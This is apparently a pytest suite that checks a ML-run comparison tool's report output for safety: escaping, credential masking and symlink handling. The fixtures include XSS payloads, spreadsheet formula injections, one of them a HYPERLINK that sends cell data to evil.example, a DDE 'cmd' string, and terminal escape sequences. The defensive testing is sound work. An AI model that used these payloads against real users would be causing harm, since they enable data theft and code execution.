"""Output safety (#14 item 4): text from files never becomes HTML, Markdown markup, a spreadsheet
formula or a terminal escape; links out of a run are not read; one bad file or run is a warning.
Each test replays one reproducer of ../shared/fuzz-repros (named in its docstring) from files it
writes itself."""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from rundiff.cli import app
from rundiff.report.safe import csv_cell, markdown_text, plain_text

runner = CliRunner()
ROOT = Path(__file__).resolve().parents[1]
LAUNCH = "accelerate launch train_network.py --network_dim 8 --learning_rate 1e-4 --max_train_steps 100\n"
ESC = "\x1b"


def cli(*args, cwd=None):
    """The real console entry in a subprocess: bytes in and out, as a user's shell sees them."""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "RUNDIFF_NO_CONFIG": "1"}
    return subprocess.run([sys.executable, "-m", "rundiff", *args], cwd=cwd, env=env, capture_output=True, timeout=60)


def test_helpers_neutralise_each_kind_of_hostile_text():
    assert plain_text("\x1b]0;TITLE\x07\x1b[2J\x1b[31mred\x1b[0m\r\n\u202eevil") == "red evil"
    assert plain_text("run\udcff") == "run\ufffd"
    assert markdown_text("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;"
    assert markdown_text("[x](javascript:1) | *y*") == "\\[x\\](javascript:1) \\| \\*y\\*"
    assert markdown_text("network_dim") == "network_dim"  # intraword underscores stay readable
    assert markdown_text("# not a heading") == "\\# not a heading"
    assert markdown_text("-5") == "-5"
    assert [csv_cell(v) for v in ("=1+1", "+cmd", "-x", "@SUM(1)", "-0.5", "1e-4", "ok")] == [
        "'=1+1",
        "'+cmd",
        "'-x",
        "'@SUM(1)",
        "-0.5",
        "1e-4",
        "ok",
    ]


def test_c19_conflicting_launches_render_to_html_and_markdown(tmp_path):
    """C19: two launches that disagree made the HTML/Markdown report crash."""
    script = tmp_path / "two_launches.sh"
    script.write_text(LAUNCH.replace("--max_train_steps 100", "") + LAUNCH.replace("8", "16", 1))
    for suffix in (".html", ".md"):
        out = tmp_path / f"report{suffix}"
        result = runner.invoke(app, ["compare", str(script), "-o", str(out)])
        assert result.exit_code == 0, result.output
        assert "Conflicts inside a run" in out.read_text()


def test_d01_a_link_out_of_the_run_folder_is_not_read(tmp_path):
    """D01: run/settings.json -> ~/.kaggle/kaggle.json put the key into the report."""
    secret = tmp_path / "home" / ".kaggle" / "kaggle.json"
    secret.parent.mkdir(parents=True)
    secret.write_text('{"username": "victim", "key": "KAGGLE_SECRET_KEY_123"}')
    run = tmp_path / "run"
    run.mkdir()
    (run / "launch.sh").write_text(LAUNCH)
    (run / "settings.json").symlink_to(secret)
    out = tmp_path / "report.html"
    result = runner.invoke(app, ["compare", str(run), "-o", str(out)])
    assert result.exit_code == 0, result.output
    html = out.read_text()
    assert "KAGGLE_SECRET_KEY_123" not in html and "links outside the run folder" in html


def test_d02_credentials_in_a_referenced_config_are_masked(tmp_path):
    """D02: --dataset_config pointing at ~/.kaggle/kaggle.json rendered its key."""
    secret = tmp_path / "home" / ".kaggle" / "kaggle.json"
    secret.parent.mkdir(parents=True)
    secret.write_text('{"username": "victim", "key": "KAGGLE_SECRET_KEY_123", "hf_token": "hf_abc"}')
    run = tmp_path / "run"
    run.mkdir()
    (run / "launch.sh").write_text(LAUNCH.strip() + f" --dataset_config {secret}\n")
    for suffix in (".html", ".json", ".md", ".csv"):
        out = tmp_path / f"report{suffix}"
        assert runner.invoke(app, ["compare", str(run), "-o", str(out), "--all"]).exit_code == 0
        text = out.read_text()
        assert "KAGGLE_SECRET_KEY_123" not in text and "hf_abc" not in text
        assert "***" in text or "\\*\\*\\*" in text


@pytest.mark.parametrize("suffix", [".json", ".html", ".md", ".csv", ".txt"])
def test_f05_a_non_utf8_run_name_writes_every_report(tmp_path, suffix):
    """F05: compare $'run\\xff' -o report.json crashed on the name."""
    run = os.path.join(os.fsencode(tmp_path), b"run\xff")
    os.mkdir(run)
    with open(os.path.join(run, b"launch.sh"), "w") as handle:
        handle.write(LAUNCH)
    out = tmp_path / f"report{suffix}"
    result = cli("compare", os.fsdecode(run), "-o", str(out))
    assert result.returncode == 0, result.stderr
    text = out.read_bytes().decode("utf-8")  # valid UTF-8, the bad byte shown as U+FFFD
    assert "run\ufffd" in text
    if suffix == ".json":
        assert json.loads(text)["runs"][0]["name"] == "run\ufffd"


def test_f06_a_non_utf8_run_name_in_diagnose_html_with_plots(tmp_path):
    """F06: diagnose $'run\\xff' --format html crashed inside matplotlib."""
    run = os.path.join(os.fsencode(tmp_path), b"run\xff")
    os.mkdir(run)
    with open(os.path.join(run, b"launch.sh"), "w") as handle:
        handle.write(LAUNCH)
    out = tmp_path / "report.html"
    result = cli("diagnose", os.fsdecode(run), "--format", "html", "-o", str(out))
    assert result.returncode in (0, 1), result.stderr
    assert b"Traceback" not in result.stderr and "run\ufffd" in out.read_text()


def test_f07_newline_and_escape_codes_in_a_file_name_stay_on_one_line(tmp_path):
    """F07: an error naming $'bad\\nname\\x1b[2J.toml' must be one line without escape codes."""
    bad = tmp_path / "bad\nname\x1b[2J.toml"
    bad.write_text("x = [\n")
    result = cli("compare", str(bad))
    assert result.returncode == 2
    err = result.stderr.decode()
    assert err.count("\n") == 1 and ESC not in err and "bad name.toml" in err


def test_i01_csv_cells_cannot_be_formulas(tmp_path):
    """I01: output_name = "=HYPERLINK(...)" reached a spreadsheet as a formula."""
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.toml").write_text(
        "learning_rate = 1e-4\nnetwork_dim = 8\nmax_train_steps = 100\n"
        'output_name = "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")"\n'
        "training_comment = \"@SUM(1+1)*cmd|' /C calc'!A0\"\n\"=cmd|'/C calc'!A0\" = 1\n"
        'vae = "a\\r=1+1"\nmin_snr_gamma = -5\n'
    )
    result = runner.invoke(app, ["compare", str(run), "--format", "csv", "--no-diagnose"])
    assert result.exit_code == 0, result.output
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in cells


def test_i02_escape_codes_from_a_config_never_reach_the_terminal(tmp_path):
    """I02: output_name holding OSC/CSI sequences retitled and cleared the terminal."""
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.toml").write_text(
        "learning_rate = 1e-4\nnetwork_dim = 8\n"
        'output_name = "\\u001b]0;PWNED\\u0007\\u001b[2J\\u001b[31mFAKE\\u001b[0m"\n'
    )
    for args in ([], ["--format", "text"], ["--format", "md"]):
        result = cli("compare", str(run), "--all", "--no-diagnose", *args)
        assert result.returncode == 0
        out = result.stdout.decode()
        assert ESC not in out and "\x07" not in out and "FAKE" in out


def test_i03_raw_html_in_a_folder_name_does_not_pass_through_diagnose_markdown(tmp_path):
    """I03: diagnose 'run_<img src=x onerror=alert(2)>' --format md."""
    run = tmp_path / "run_<img src=x onerror=alert(2)>"
    run.mkdir()
    (run / "config.toml").write_text("learning_rate = 1e-4\nnetwork_dim = 8\nmax_train_steps = 100\n")
    result = runner.invoke(app, ["diagnose", str(run), "--format", "md", "--exit-zero"])
    assert result.exit_code == 0, result.output
    assert "<img" not in result.stdout and "&lt;img src=x onerror=alert(2)&gt;" in result.stdout


def test_i04_raw_html_in_a_folder_name_does_not_pass_through_compare_markdown(tmp_path):
    """I04: the per-run heading of the Markdown compare report carried raw HTML."""
    good = tmp_path / "good"
    bad = tmp_path / "bad_<img src=x onerror=alert(3)>"
    for folder, dim in ((good, 8), (bad, 16)):
        folder.mkdir()
        (folder / "config.toml").write_text(f"learning_rate = 1e-4\nnetwork_dim = {dim}\n")
    out = tmp_path / "out.md"
    result = runner.invoke(app, ["compare", str(good), str(bad), "--no-diagnose", "-o", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_text()
    assert "<img" not in text and "bad\\_&lt;img src=x onerror=alert(3)&gt;" in text


def test_i05_escape_codes_in_a_folder_name_do_not_reach_diagnose_text(tmp_path):
    """I05: a run folder named run_\\x1b[2J\\x1b[31mOK."""
    run = tmp_path / "run_\x1b[2J\x1b[31mOK"
    run.mkdir()
    (run / "config.toml").write_text("learning_rate = 1e-4\nnetwork_dim = 8\nmax_train_steps = 100\n")
    result = cli("diagnose", str(run), "--exit-zero")
    assert result.returncode == 0 and ESC not in result.stdout.decode()
    assert "run_OK" in result.stdout.decode()


def test_x02_a_bad_rundiff_yaml_is_a_warning_and_the_run_is_compared(tmp_path):
    """X02: `outcome: [` in rundiff.yaml aborted the whole comparison."""
    run = tmp_path / "run"
    run.mkdir()
    (run / "launch.sh").write_text(LAUNCH)
    (run / "rundiff.yaml").write_text("outcome: [\n")
    result = runner.invoke(app, ["compare", str(run), "--format", "json"])
    assert result.exit_code == 0, result.output
    warnings = json.loads(result.stdout)["runs"][0]["warnings"]
    assert any("rundiff.yaml" in w for w in warnings)


def test_severities_in_brackets_stay_visible_on_the_terminal():
    """Rich markup used to swallow `[warning]`; every terminal line is built from plain Text now."""
    run = ROOT / "sample_runs" / "warmup_lr_zero"
    result = cli("compare", str(run))
    assert result.returncode == 0
    assert "[error]" in result.stdout.decode() or "[warning]" in result.stdout.decode()


def test_infer_rank_md_and_html_escape_metadata(tmp_path):
    """A LoRA's metadata and its file name are file text: in infer-rank's Markdown and HTML they are
    shown, never markup, and escape codes go."""
    import struct

    meta = {"ss_network_dim": "8", "ss_training_comment": "<script>alert(1)</script> **bold** \x1b[31mred"}
    raw = json.dumps({"__metadata__": meta}).encode()
    lora = tmp_path / "<b>x<i>.safetensors"
    lora.write_bytes(struct.pack("<Q", len(raw)) + raw)
    html = cli("infer-rank", str(lora), "--format", "html")
    assert html.returncode == 0, html.stderr
    page = html.stdout.decode()
    assert "<script>" not in page and "&lt;script&gt;" in page and "<b>x" not in page and "&lt;b&gt;x" in page
    assert ESC not in page and "[31m" not in page
    md = cli("infer-rank", str(lora), "--format", "md").stdout.decode()
    assert "<script>" not in md and "&lt;script&gt;" in md and "\\*\\*bold\\*\\*" in md and ESC not in md
